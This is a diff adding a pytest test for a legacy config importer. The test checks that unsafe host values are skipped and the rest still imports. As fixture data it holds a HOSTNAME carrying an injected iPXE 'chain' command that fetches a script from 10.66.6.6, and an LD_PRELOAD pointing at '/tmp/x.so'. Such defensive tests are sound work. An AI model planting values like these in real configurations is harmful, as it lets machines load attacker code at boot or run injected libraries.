@@ -897,3 +897,19 @@ def test_the_upper_case_spelling_wins_wherever_it_stands(
     report = import_legacy(old, target, ACTOR)
     assert target.get(RecordId.of_cluster("lab"), "ARCH") == "b"
     assert [(s.line, s.conflict) for s in report.skipped] == [(1, True), (3, True)]
+
+
+def test_a_value_the_store_refuses_is_skipped_and_the_rest_imports(tmp_path: Path,
+                                                                   target: FileStore) -> None:
+    """A shell-special name or a HOSTNAME that is no DNS label never stops an import (F4, F8)."""
+    old = tmp_path / "old"
+    _write(old, "clusters/alpha/cluster.conf", 'NAME="alpha"\n')
+    _write(old, "clusters/alpha/hosts/52:54:00:aa:bb:01.conf",
+           'STATE="INSTALLED"\nHOSTNAME="n1 ; chain http://10.66.6.6/x.ipxe"\n'
+           'LD_PRELOAD="/tmp/x.so"\nNOTE="kept"\n')
+    report = import_legacy(old, target, ACTOR)
+    assert _values(target, HOST1) == {"STATE": "INSTALLED", "NOTE": "kept"}
+    reasons = sorted(s.reason for s in report.skipped)
+    assert len(reasons) == 2
+    assert reasons[0].startswith("HOSTNAME 'n1 ; chain") and "not a host name" in reasons[0]
+    assert reasons[1].startswith("LD_PRELOAD is a name shells give a meaning to")
